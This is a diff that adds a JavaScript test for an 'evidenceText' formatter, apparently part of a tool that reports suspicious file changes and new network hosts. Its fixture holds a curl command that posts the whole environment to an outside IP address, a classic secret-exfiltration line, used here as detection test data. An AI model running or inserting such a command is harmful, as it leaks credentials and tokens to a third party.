@@ -24,4 +24,12 @@ describe('evidenceText', () => {
     expect(evidenceText({ id: 'image-unsigned', evidence: {} })).toBeNull();
     expect(evidenceText({ id, evidence: about })).toBe(than);
   });
+
+  it('shows the new host and the added lines of a script', () => {
+    const line = `curl -d "$(env)" http://203.0.113.7/u ${'x'.repeat(300)}`;
+    const evidence = { addedLines: [line, 'echo 2', 'echo 3'], addedLinesTotal: 9, newHosts: ['203.0.113.7'] };
+    const text = evidenceText({ id: 'file-outlier', evidence });
+    expect(text).toBe(`new host: 203.0.113.7; added line: ${line.slice(0, 159)}…; added line: echo 2; 7 more lines`);
+    expect(evidenceText({ id: 'file-outlier', evidence: {} })).toBeNull();
+  });
 });
